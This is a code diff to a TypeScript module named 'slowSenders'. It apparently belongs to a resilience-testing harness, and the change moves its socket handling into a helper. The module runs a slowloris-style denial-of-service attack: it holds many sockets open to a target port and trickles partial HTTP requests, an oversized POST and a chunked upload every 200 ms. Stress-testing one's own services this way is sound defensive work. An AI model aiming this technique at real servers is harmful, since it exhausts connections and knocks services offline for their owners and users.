@@ -1,6 +1,6 @@
 import type { Socket } from 'node:net';
 import { type Attack, createLedger } from '../attack';
-import { openSocket } from '../raw';
+import { openSlowSender, type SlowSender } from '../slow-sender';
 
 /** Between two drops, and between two honest calls; milliseconds. */
 const EVERY_MS = 200;
@@ -11,14 +11,7 @@ const LARGE = 'GET /openapi.json HTTP/1.1\r\nHost: portal\r\n\r\n';
 const POST = 'POST /token HTTP/1.1\r\nHost: portal\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n';
 const CHUNKED = 'POST /api/upload HTTP/1.1\r\nHost: portal\r\nTransfer-Encoding: chunked\r\n\r\n';
 
-interface Sender {
-  start: string;
-  /** Sent again and again. */
-  drop: string;
-  /** Reads nothing of what it is answered. */
-  isDeaf?: boolean;
-}
-const SENDERS: Sender[] = [
+const SENDERS: SlowSender[] = [
   { start: 'G', drop: '' },
   { start: GET, drop: 'X-A: b\r\n' },
   { start: POST, drop: ' ' },
@@ -36,14 +29,7 @@ export const slowSenders: Attack = {
     const end = Date.now() + trickleMs;
     const sockets: Socket[] = [];
     for (let n = 0; n < senders; n += 1) {
-      const { start, drop, isDeaf } = SENDERS[n % SENDERS.length]!;
-      const socket = await openSocket(target.port);
-      if (isDeaf) socket.pause();
-      else socket.resume();
-      socket.write(start);
-      const timer = setInterval(() => socket.writable && drop && socket.write(drop), EVERY_MS);
-      socket.once('close', () => clearInterval(timer));
-      sockets.push(socket);
+      sockets.push(await openSlowSender(target.port, SENDERS[n % SENDERS.length]!, EVERY_MS));
       ledger.tried();
     }
     while (Date.now() < end) {
